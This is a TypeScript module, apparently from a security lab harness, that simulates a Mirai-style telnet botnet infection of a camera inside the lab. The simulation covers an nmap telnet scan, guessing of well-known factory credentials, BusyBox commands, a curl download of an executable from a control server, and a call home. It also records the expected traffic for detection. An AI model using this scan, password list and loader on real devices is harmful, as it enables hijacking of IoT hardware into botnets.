import { insideAddresses, spareOutsideAddresses } from '../addresses.ts';
import { type Attack, type Claim, type Intensity, intensities } from '../contracts.ts';
import type { LabHost } from '../lab.ts';
import { routerAddress } from '../layout.ts';
import { runProgram } from '../programs/run-program.ts';
import { cameraAccount } from '../services/camera-shell.ts';
import { isOpen } from '../services/daemon.ts';
import { startOwn } from '../services/own-program.ts';
import { controlPorts, executablePath, startControl } from './control-server.ts';
import { curlPorts, portsFor } from './errands.ts';

const telnetPorts = [23, 2323];
const commandPort = 23;
const sourcePort = 26_023;
/** Of the errands' ports, these are used here. */
const portsOffset = 40;
const shareForScan = 0.45;
const shareForLogin = 0.3;
/** What a wrong password costs, and how much of the time is kept for what comes after the right one. */
const missSeconds = 0.85;
const insideSeconds = 3;

type Plan = { readonly addresses: number; readonly perSecond: number; readonly periodSeconds: number };
const plans: Readonly<Record<Intensity, Plan>> = {
  quiet: { addresses: 40, perSecond: 2, periodSeconds: 6 },
  medium: { addresses: 150, perSecond: 20, periodSeconds: 3 },
  loud: { addresses: 330, perSecond: 150, periodSeconds: 1 },
};
/** As printed on the undersides of devices. */
const factoryLogins = [
  ...['root:vizxv', 'root:admin', 'admin:admin', 'root:888888', 'root:xmhdipc', 'root:default'],
  ...['root:juantech', 'support:support', 'root:54321', 'admin:password', 'root:root', 'user:user'],
];

/** Like Mirai: looks for telnet everywhere, guesses factory passwords, loads a program, calls home. */
export const botnetInfection: Attack = {
  kind: 'telnet-botnet-infection',
  summary: 'a bot looks for telnet, takes over the camera, and that one calls home',
  needs: ['nmap', 'curl', 'nginx', 'openssl'],
  intensities,
  actor: 'guest',
  targets: ['camera'],
  async run({ lab, intensity, actor, targets, random, seconds, signal }) {
    const victim = targets[0] ?? lab.host('camera');
    const control = await startControl(lab);
    if (!isOpen(control, { tcp: commandPort })) {
      await startOwn(control, 'bot-link', ['listen', String(commandPort)], { tcp: commandPort });
    }
    const { addresses, perSecond, periodSeconds } = plans[intensity];
    const inside = insideAddresses().filter(address => address !== actor.address);
    const all = [...inside, ...spareOutsideAddresses(80)]
      .map(address => ({ address, order: random.fraction() }))
      .toSorted((one, other) => one.order - other.order)
      .map(({ address }) => address);
    const scanned = [
      victim.address,
      ...all.filter(address => address !== victim.address).slice(0, addresses),
    ];
    const rate = ['--max-rate', String(perSecond), '--max-retries', '0', '--host-timeout', '60s'];
    const words = ['-sS', '-Pn', '-n', '-g', String(sourcePort), '-p', telnetPorts.join(','), ...rate];
    const scanSeconds = seconds * shareForScan;
    await actor.machine.attempt('nmap', [...words, ...scanned], { seconds: scanSeconds, signal });
    const loginSeconds = Math.max(insideSeconds + 2, seconds * shareForLogin);
    const misses = factoryLogins.slice(0, Math.floor((loginSeconds - insideSeconds) / missSeconds));
    const logins = [...misses, `${cameraAccount.user}:${cameraAccount.password}`].join(',');
    const ports = portsFor(portsOffset);
    const source = `http://${control.address}:${controlPorts.http}${executablePath}`;
    const load = `curl -s ${curlPorts(ports).join(' ')} -o /dev/null ${source}; echo loaded`;
    const commands = ['enable', 'system', 'shell', '/bin/busybox MIRAI', 'cat /proc/mounts', load];
    const limit = AbortSignal.any([signal, AbortSignal.timeout(loginSeconds * 1000)]);
    await runProgram(actor, 'telnet-bot', [victim.address, logins, ...commands], limit);
    const time = Math.max(2, seconds * (1 - shareForScan - shareForLogin));
    const report = [control.address, commandPort, time, periodSeconds].map(String);
    await runProgram(victim, 'bot-link', ['report', ...report], signal);
    return {
      tool: 'nmap, telnet-bot, curl, bot-link',
      arguments: `${words.join(' ')} (${scanned.length} addresses); ${logins}; ${source}`,
      claims: claims(actor, victim, control, scanned, ports),
    };
  },
};

function claims(
  actor: LabHost,
  victim: LabHost,
  control: LabHost,
  scanned: readonly string[],
  ports: readonly number[],
): Claim[] {
  const inside = new Set(insideAddresses());
  const toControl = { actors: [victim.address], targets: [control.address], protocol: 'tcp' } as const;
  return [
    { actors: [actor.address], targets: scanned, protocol: 'tcp', targetPorts: telnetPorts },
    // It lives no ordinary life: whom it looks for inside, it looks for because of this.
    { actors: [actor.address], targets: scanned.filter(address => inside.has(address)), protocol: 'arp' },
    { actors: [actor.address], targets: [routerAddress], protocol: 'icmp' },
    { ...toControl, targetPorts: [controlPorts.http], actorPorts: ports },
    { ...toControl, targetPorts: [commandPort] },
  ];
}
